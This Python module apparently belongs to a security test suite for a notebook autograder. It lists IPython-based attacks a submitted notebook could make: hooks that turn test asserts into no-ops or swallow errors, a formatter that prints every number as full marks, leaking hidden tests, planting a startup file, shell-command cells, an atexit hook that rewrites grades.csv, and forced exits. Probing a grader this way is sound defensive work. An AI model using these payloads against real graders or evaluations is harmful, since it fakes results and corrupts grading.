"""Attack IPython: magics, hooks, its own functions, formatters, threads, what runs at the end."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

from .attack import FAKES, Attack, carrying, right
from .oracle import in_one_process

TESTS = "no test runs in the notebook"
BOTH = ("sigmoid", "initialize_with_zeros")
RIGHT = {"sigmoid": right("sigmoid")}
IP = "ip = get_ipython()\n"
HOOKS = {
    "turn_every_line_into_nothing":
        f"{IP}ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
    "turn_every_test_into_nothing":
        f"{IP}import ast\nclass Drop(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)\n"
        "ip.ast_transformers.append(Drop())",
    "show_full_marks_before_the_error":
        f"{IP}ip.events.register('pre_run_cell', lambda info: ip.displayhook(10))",
    "swallow_every_error": f"{IP}ip.showtraceback = lambda *a, **k: None",
    "handle_every_error":
        f"{IP}ip.set_custom_exc((Exception,), lambda *a, **k: None)",
    "run_no_cell_any_more":
        f"{IP}from types import SimpleNamespace\n"
        "ip.run_cell = lambda *a, **k: SimpleNamespace(error_before_exec=None, error_in_exec=None)",
    "show_every_test_as_run":
        f"{IP}async def nothing(*a, **k): return False\nip.run_ast_nodes = nothing",
}  # fmt: skip
FORMATTER = (
    f"{IP}plain = ip.display_formatter.formatters['text/plain']\n"
    "plain.for_type(float, lambda number, printer, cycle: printer.text('10.0'))\n"
    "ip.display_formatter.ipython_display_formatter.enabled = False"
)
LOGGED = (
    f"{IP}seen = []\nip.events.register('pre_run_cell', lambda info: print(info.raw_cell))"
)
STARTUP = (
    "import os\nfolder = os.path.expanduser('~/.ipython/profile_default/startup')\n"
    "os.makedirs(folder, exist_ok=True)\n"
    "open(folder + '/00-grade.py', 'w').write('print(\"GAINED\")')\n"
)
AT_EXIT = (
    "import atexit\ndef at_the_end():\n    open({0!r}, 'a').write('student01,100')\n"
    "atexit.register(at_the_end)\n"
)
SHELL = "!touch {0}/made-by-a-shell-command\n%system touch {0}/made-by-a-magic\n"
SCRIPT = "%%bash\ntouch {0}/made-by-a-script\n"
LEAVE = {
    "leave_by_sys_exit": "import sys; sys.exit(0)",
    "leave_by_a_keyboard_interrupt": "raise KeyboardInterrupt",
    "leave_by_an_error_of_its_own_kind":
        "class Mine(BaseException): pass\nraise Mine('100')",
}  # fmt: skip


def first(source: str) -> Any:
    """Return the function that makes a notebook of wrong functions with this cell before them."""
    return carrying({**FAKES}, first=source)


def leaks_the_test(bench: Any) -> bool:
    """Run the tests as cells: the hook prints them."""
    return "BEGIN HIDDEN TESTS" in bench.in_process(first(LOGGED)({}), "cells")["shown"]


def greets_the_next_one(bench: Any) -> bool:
    """Give every notebook the same home: the next IPython runs what was left there."""
    home = bench.new_folder()
    bench_world = {**os.environ, "HOME": str(home), "IPYTHONDIR": str(home / ".ipython")}
    subprocess.run([sys.executable, "-c", STARTUP], env=bench_world, check=True)
    words = [sys.executable, "-m", "IPython", "-c", "1", "--no-banner"]
    told = subprocess.run(words, env=bench_world, capture_output=True, text=True, timeout=60)
    return "GAINED" in told.stdout


def in_the_folder(source: str, *, earned: bool = True) -> Any:
    """Return the function that makes a notebook whose first cell acts on the grader's folder."""

    def notebook(world: dict[str, Any]) -> bytes:
        return carrying(RIGHT, first=source.format(world["folder"]))(world)

    return notebook


def makes_a_file(source: str) -> Any:
    """Return the function that runs a cell in a plain IPython, where a program may start."""

    def succeeds(bench: Any) -> bool:
        folder = bench.new_folder()
        bench.in_process(carrying({}, first=source.format(folder))({}), "plain")
        return any(folder.iterdir())

    return succeeds


def writes_at_the_end(bench: Any) -> bool:
    """Let the process come to its end: what was put off runs then."""
    path = bench.new_folder() / "grades.csv"
    bench.in_process(carrying({}, first=AT_EXIT.format(str(path)))({}), "plain")
    return path.is_file()


def at_the_end(world: dict[str, Any]) -> bytes:
    """Make a notebook that changes the grades when its process ends."""
    path = str(Path(world["folder"]) / "grades.csv")
    return carrying(RIGHT, first=AT_EXIT.format(path))(world)


def ends_the_grader(source: str) -> Any:
    """Return the function that shows a grader without a guard around each cell end with it."""
    return lambda bench: "died" in bench.in_process(carrying({}, first=source)({}), "bare")


ATTACKS = [
    in_one_process(name, first(source), "sigmoid", way="cells", family="IPython", by=TESTS)
    for name, source in HOOKS.items()
] + [
    in_one_process("print_every_number_as_full_marks", first(FORMATTER), "predict", way="cells",
                   family="IPython", by=TESTS),
    Attack("read_the_tests_by_a_hook", "IPython", TESTS, first(LOGGED), leaks_the_test),
    Attack("leave_a_startup_file", "IPython", "a home of its own for every notebook",
           carrying(RIGHT, first=STARTUP), greets_the_next_one, ("sigmoid",)),
    Attack("run_a_shell_command", "IPython", "a shell without commands", in_the_folder(SHELL),
           makes_a_file(SHELL), ("sigmoid",)),
    Attack("run_a_script_cell", "IPython", "a shell without commands", in_the_folder(SCRIPT),
           makes_a_file(SCRIPT), ("sigmoid",)),
    Attack("change_the_grades_at_exit", "IPython", "a worker is killed, it never exits",
           at_the_end, writes_at_the_end, ("sigmoid",)),
] + [
    Attack(name, "IPython", "every cell runs by itself", carrying(RIGHT, first=source),
           ends_the_grader(source), ("sigmoid",))
    for name, source in LEAVE.items()
]  # fmt: skip
